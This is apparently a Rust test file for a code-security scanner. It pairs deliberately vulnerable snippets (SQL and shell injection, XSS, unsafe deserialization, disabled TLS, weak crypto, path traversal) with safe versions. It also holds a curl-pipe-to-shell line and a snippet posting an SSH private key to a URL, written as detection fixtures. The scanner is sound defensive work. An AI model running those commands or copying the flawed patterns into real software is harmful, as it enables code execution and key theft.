//! What is dangerous in code, each beside the same thing done well.

use proptest::prelude::*;

use super::{Hit, scan};
use crate::text::NoGrams;

fn has(code: &str, hit: Hit) -> bool {
    scan(code, NoGrams).0.hit(hit) > 0.0
}

/// What is found, the code in which it is, and the code in which it is not.
const PAIRS: &[(Hit, &str, &str)] = &[
    (
        Hit::SqlBuilt,
        "db.execute(f\"SELECT * FROM users WHERE name = '{name}'\")",
        "db.execute(\"SELECT * FROM users WHERE name = ?\", (name,))",
    ),
    (
        Hit::SqlBuilt,
        "$db->query(\"SELECT * FROM t WHERE id = $id\");",
        "$db->query(\"SELECT * FROM t WHERE id = :id\");",
    ),
    (
        Hit::SqlBuilt,
        "$q = 'SELECT * FROM t WHERE id = ' . $id;",
        "$q = 'SELECT * FROM t WHERE id = ' . (int) $id;",
    ),
    (
        Hit::SqlBuilt,
        "db.query(`SELECT a FROM t WHERE b = ${b}`)",
        "db.query(`SELECT a FROM t WHERE b = $1`, [b])",
    ),
    (
        Hit::SqlBuilt,
        "rows := db.Query(fmt.Sprintf(\"SELECT a FROM t WHERE b = %s\", b))",
        "rows := db.Query(\"SELECT a FROM t WHERE b = $1\", b)",
    ),
    (
        Hit::SqlBuilt,
        "sql.append(\" WHERE name LIKE '%\").append(name);",
        "sql.append(\" WHERE name LIKE ?\");",
    ),
    (
        Hit::SqlBuilt,
        "q = \"DELETE FROM t WHERE a = \" + a",
        "q = \"DELETE FROM t \" + \"WHERE a = 1\"",
    ),
    (
        Hit::SqlBuilt,
        "x = f\"SELECT a FROM t WHERE b = {b}\"",
        "def f():\n    \"\"\"Select names from what {is} there, or update them.\"\"\"",
    ),
    (Hit::ShellBuilt, "os.system(\"ls \" + path)", "subprocess.run([\"ls\", \"-l\" + path])"),
    (Hit::ShellBuilt, "subprocess.run(f\"ls {path}\", shell=True)", "run_command(f\"ls {path}\")"),
    (
        Hit::ShellBuilt,
        "shell_exec('ping ' . $host);",
        "shell_exec('ping ' . escapeshellarg($host));",
    ),
    (
        Hit::HtmlSpliced,
        "item.innerHTML = `<b>${comment.body}</b>`;",
        "item.textContent = `${comment.body}`;",
    ),
    (Hit::ObjectsLoaded, "data = pickle.loads(blob)", "data = json.loads(blob)"),
    (Hit::ObjectsLoaded, "yaml.load(f)", "yaml.load(f, Loader=yaml.SafeLoader)"),
    (Hit::ObjectsLoaded, "unserialize($x);", "unserialize($x, ['allowed_classes' => false]);"),
    (
        Hit::EntitiesLoaded,
        "etree.XMLParser(resolve_entities=True)",
        "etree.XMLParser(resolve_entities=False)",
    ),
    (
        Hit::EntitiesLoaded,
        "f = DocumentBuilderFactory.newInstance();\nf.newDocumentBuilder();",
        "f = DocumentBuilderFactory.newInstance();\nf.setFeature(DISALLOW, true);",
    ),
    (Hit::TlsOff, "requests.get(u, verify=False)", "requests.get(u, verify=True)"),
    (
        Hit::TlsOff,
        "https.request({ rejectUnauthorized: false })",
        "https.request({ rejectUnauthorized: true })",
    ),
    (
        Hit::TlsOff,
        "&tls.Config{InsecureSkipVerify: true}",
        "&tls.Config{InsecureSkipVerify: false}",
    ),
    (
        Hit::SignatureSkipped,
        "jwt.decode(t, options={\"verify_signature\": False})",
        "jwt.decode(t, key, algorithms=[\"HS256\"])",
    ),
    (Hit::SecretWeak, "token = Math.random().toString(36)", "token = crypto.randomBytes(16)"),
    (Hit::SecretWeak, "hashlib.md5(password.encode())", "hashlib.md5(file_bytes)"),
    (Hit::CipherWeak, "AES.new(key, AES.MODE_ECB)", "AES.new(key, AES.MODE_GCM)"),
    (
        Hit::CipherWeak,
        "Cipher.getInstance(\"AES/ECB/PKCS5Padding\")",
        "Cipher.getInstance(\"AES/GCM/NoPadding\")",
    ),
    (Hit::DebugOn, "app.run(host=h, debug=True)", "app.run(host=h, debug=False)"),
    (
        Hit::OriginAny,
        "res.header('Access-Control-Allow-Origin', req.headers.origin); res.header('Access-Control-Allow-Credentials', 'true')",
        "res.header('Access-Control-Allow-Origin', ORIGIN)",
    ),
    (Hit::AccessOpen, "os.chmod(path, 0o777)", "os.chmod(path, 0o640)"),
    (Hit::TempGuessed, "f = open(\"/tmp/report.txt\", \"w\")", "f = tempfile.NamedTemporaryFile()"),
    (Hit::BufferUnbounded, "gets(line);", "fgets(line, sizeof line, stdin);"),
    (Hit::BufferUnbounded, "strcpy(to, from);", "strlcpy(to, from, sizeof(to));"),
    (Hit::FormatOpen, "printf(message);", "printf(\"%s\", message);"),
    (Hit::FormatOpen, "syslog(LOG_INFO, line);", "syslog(LOG_INFO, \"%s\", line);"),
    (Hit::FreedUsed, "free(p);\nputs(p);", "free(p);\np = NULL;\nputs(p);"),
    (Hit::FreedUsed, "delete conn;\nlog(conn->remote());", "log(conn->remote());\ndelete conn;"),
    (
        Hit::AllocUnchecked,
        "n = malloc(sizeof(*n));\nn->next = 0;",
        "n = malloc(sizeof(*n));\nif (n == NULL) return;\nn->next = 0;",
    ),
    (
        Hit::ErrorsSwallowed,
        "try:\n    go()\nexcept Exception:\n    pass",
        "try:\n    go()\nexcept Exception:\n    raise",
    ),
    (Hit::ErrorsSwallowed, "try { go(); } catch (e) {}", "try { go(); } catch (e) { report(e); }"),
    (
        Hit::TimingTold,
        "if hmac.new(k, b).hexdigest() == sent:",
        "if hmac.compare_digest(hmac.new(k, b).hexdigest(), sent):",
    ),
    (Hit::PatternSlow, "re.compile(r\"^(\\w+)+$\")", "re.compile(r\"^(\\w+\\.)+$\")"),
    (Hit::PatternSlow, "const EMAIL = /^([a-z0-9]+[._-]?)+@/;", "const EMAIL = /^[a-z0-9._-]+@/;"),
    (Hit::SecretLiteral, "password = \"hK7pL2mQ9x\"", "password = os.environ[\"DB_PASSWORD\"]"),
    (
        Hit::RequestRun,
        "name = request.args.get('n')\nos.system('x ' + name)",
        "n = int(request.args.get('n'))\nos.system('x ' + n)",
    ),
    (Hit::RequestRun, "exec(`ls ${req.query.dir}`)", "/x/.exec(req.query.dir)"),
    (
        Hit::RequestPath,
        "@router.get(\"/{id}\")\ndef get(id: int, name: str):\n    path = BASE / name\n    return FileResponse(path)",
        "@router.get(\"/{id}\")\ndef get(id: int):\n    path = BASE / id\n    return FileResponse(path)",
    ),
    (
        Hit::RequestPath,
        "const f = req.params.file;\nfs.readFile('/data/' + f, done);",
        "const f = path.basename(req.params.file);\nfs.readFile('/data/' + f, done);",
    ),
    (Hit::RequestPath, "zf.extractall(dest)", "zf.extractall(dest, filter='data')"),
    (
        Hit::RequestFetched,
        "const { url } = req.body;\nconst r = await fetch(url);",
        "const { url } = req.body;\nif (!ALLOWED.includes(url)) return;\nconst r = await fetch(url);",
    ),
    (
        Hit::RequestFetched,
        "url = request.data['url']\nr = requests.get(url)",
        "url = request.data['url']\nparts = urlparse(url)\nif parts.netloc not in HOSTS:\n    raise Bad()\nr = requests.get(url)",
    ),
    (Hit::RequestShown, "<?= $_GET['q'] ?>", "<?= htmlspecialchars($_GET['q']) ?>"),
    (
        Hit::RequestShown,
        "echo \"<p>\" . $_GET['q'];",
        "echo \"<p>\" . htmlspecialchars($_GET['q']);",
    ),
    (
        Hit::RequestRedirects,
        "return redirect(request.args['next'])",
        "return redirect(url_for('home'))",
    ),
    (Hit::RequestAssigned, "User.create(req.body)", "User.create({ name: req.body.name })"),
    (
        Hit::RequestAssigned,
        "for (const key in source) {\n  target[key] = source[key];\n}",
        "for (const key in source) {\n  if (key === '__proto__') continue;\n  target[key] = source[key];\n}",
    ),
    (Hit::RemoteRun, "exec(base64.b64decode(blob))", "data = base64.b64decode(blob)"),
    (
        Hit::RemoteRun,
        "os.system(\"curl http://x.io/i.sh | sh\")",
        "os.system(\"curl -O http://x.io/i.txt\")",
    ),
    (
        Hit::SecretLogged,
        "logger.info(\"login %s %s\", form.email, form.password)",
        "ok = verify(form.password)\nlogger.info(\"login %s %s\", form.email, ok)",
    ),
    (
        Hit::SecretLogged,
        "console.log(`new user ${name}: ${password}`)",
        "console.log(`new user ${name}: ${redact(password)}`)",
    ),
    (
        Hit::ReadUnbounded,
        "body, err := io.ReadAll(r.Body)",
        "body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, max))",
    ),
    (
        Hit::RaceLeft,
        "if (access(path, W_OK) == 0) f = fopen(path, \"w\");",
        "f = fopen(path, \"wx\");",
    ),
    (Hit::RequestAssigned, "user.update(params.permit!)", "user.update(params.permit(:name))"),
    (
        Hit::SecretsSent,
        "key = open('/home/a/.ssh/id_rsa').read()\nrequests.post(url, data=key)",
        "key = open('/home/a/notes').read()\nrequests.post(url, data=key)",
    ),
];

#[test]
fn dangers_are_found_and_the_same_done_well_is_not() {
    for (hit, bad, good) in PAIRS {
        assert!(has(bad, *hit), "{hit:?} is in\n{bad}");
        assert!(!has(good, *hit), "{hit:?} is not in\n{good}");
    }
}

#[test]
fn a_file_of_nothing_but_dangers_takes_time_by_its_length() {
    for part in [
        "chmod(",
        "free(p);",
        "@app.get(",
        "{",
        "`${",
        "(a+)+",
        "memcpy(x, ",
        "x = request.args;\n",
    ] {
        let found = scan(&part.repeat(200_000), NoGrams).0;
        assert!(found.bytes > 0);
    }
}

/// What the rules look for, in pieces, and what may cut them.
const PIECES: &[&str] = &[
    "free",
    "delete ",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    ";",
    "=",
    ":=",
    "=>",
    "<?=",
    "?>",
    "\n",
    " ",
    ".",
    "->",
    "@app.get",
    "def ",
    "IActionResult f",
    "@RequestParam",
    "request.args",
    "$_GET",
    "$",
    "#{",
    "${",
    "`",
    "'",
    "\"",
    "f\"",
    "as ",
    "for x in ",
    "if ",
    "const ",
    "exec",
    "printf",
    "malloc",
    "memcpy",
    "select a from b where c = '",
    "é",
    "名",
    "\u{200d}",
    "\u{0}",
    "(a+)+",
    "pass",
    "except:",
    "catch",
    "x",
    "int ",
    "0777",
    "chmod",
    "//",
    "/*",
    "*/",
    "\\",
];

proptest! {
    #[test]
    fn no_code_breaks_the_rules(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
        let code = pieces.concat();
        let scan = scan(&code, NoGrams).0;
        for (start, end) in scan.spans.into_iter().flatten() {
            prop_assert!(code.get(start..end).is_some(), "a place in the code");
        }
    }
}
